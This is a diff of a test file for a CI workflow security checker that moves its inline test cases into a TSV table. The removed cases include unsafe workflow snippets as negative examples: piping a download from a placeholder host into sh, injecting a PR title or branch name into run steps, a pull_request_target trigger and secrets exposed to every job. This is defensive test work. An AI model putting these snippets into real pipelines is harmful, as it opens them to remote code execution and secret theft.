@@ -5,6 +5,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { parse } from 'yaml';
+import { readTable } from '../../model/src/readTable.ts';
 import { checkWorkflow } from '../src/workflows/checkWorkflow.ts';
 import type { Workflow } from '../src/workflows/Workflow.ts';
 import { tarGz } from '../../downloads/src/tarGz.ts';
@@ -16,7 +17,6 @@ test.each(fs.readdirSync(FOLDER))('%s of the hosted CI grants no unsafe access',
   expect(checkWorkflow(file, read(file))).toEqual([]);
 });
 
-const HASH = 'de0fac2e4500dabe0009e67214ff5f5447ce83dd';
 const GOOD = `
 on: push
 permissions: {}
@@ -24,7 +24,7 @@ jobs:
   check:
     permissions: { contents: read }
     steps:
-      - uses: actions/checkout@${HASH}
+      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd
         with: { persist-credentials: false }
       - run: npm test
 `;
@@ -34,59 +34,15 @@ describe('a workflow is reported', () => {
     expect(checkWorkflow('ci.yml', GOOD)).toEqual([]);
   });
 
-  test.each<[string, string, string, string]>([
-    ['an action by its tag', HASH, 'v6', 'actions/checkout@v6, which is not pinned'],
-    ['an action by its branch', HASH, 'main', 'which is not pinned'],
-    ['an action by a short hash', HASH, 'de0fac2', 'which is not pinned'],
-    ['an image by its tag', `actions/checkout@${HASH}`, 'docker://node:24', 'which is not pinned'],
-    ['credentials that stay', 'persist-credentials: false', 'fetch-depth: 0', 'leaves the credentials'],
-    ['no permissions', 'permissions: {}', 'name: CI', 'has no `permissions`'],
-    ['all permissions', 'permissions: {}', 'permissions: write-all', 'gives every job write-all'],
-    ['a job without its own', 'permissions: { contents: read }', 'name: Check', '`permissions` of its own'],
-    ['a job that writes', 'contents: read', 'contents: write', 'may write contents'],
-    ['a job that can request an identity token', 'contents: read', 'id-token: write', 'may write id-token'],
-    [
-      'code of strangers, with rights',
-      'on: push',
-      'on: [pull_request_target]',
-      'runs on pull_request_target',
-    ],
-    [
-      'a title as code',
-      'run: npm test',
-      'run: echo "${{ github.event.pull_request.title }}"',
-      'an expression',
-    ],
-    ['a branch as code', 'run: npm test', 'run: git diff ${{ github.head_ref }}', 'puts an expression'],
-    [
-      'an input as code',
-      '- run: npm test',
-      '- with: { script: "go(${{ inputs.x }})" }',
-      'puts an expression',
-    ],
-    [
-      'a script from the web',
-      'run: npm test',
-      'run: curl https://a.example/x | sh',
-      'runs a script that it downloads',
-    ],
-    [
-      'secrets in any run',
-      'run: npm test',
-      'env: { T: "${{ secrets.T }}" }',
-      'secrets without an environment',
-    ],
-    [
-      'secrets in every run',
-      'on: push',
-      'on: push\nenv: { T: "${{ secrets.T }}" }',
-      'gives secrets to every job',
-    ],
-  ])('with %s', (_, from, to, problem) => {
-    const text = GOOD.replace(from, () => to);
-    expect(text).not.toBe(GOOD);
-    expect(checkWorkflow('ci.yml', text).join('\n')).toContain(problem);
-  });
+  /** In the table, ⏎ is the end of a line. */
+  test.each(readTable('packages/checks/tests/workflows.tsv', ['part', 'from', 'to', 'problem']))(
+    'with $part',
+    ({ from, to, problem }) => {
+      const text = GOOD.replace(from, () => to.replaceAll('⏎', '\n'));
+      expect(text).not.toBe(GOOD);
+      expect(checkWorkflow('ci.yml', text).join('\n')).toContain(problem);
+    },
+  );
 });
 
 describe('the publish step of a release', () => {
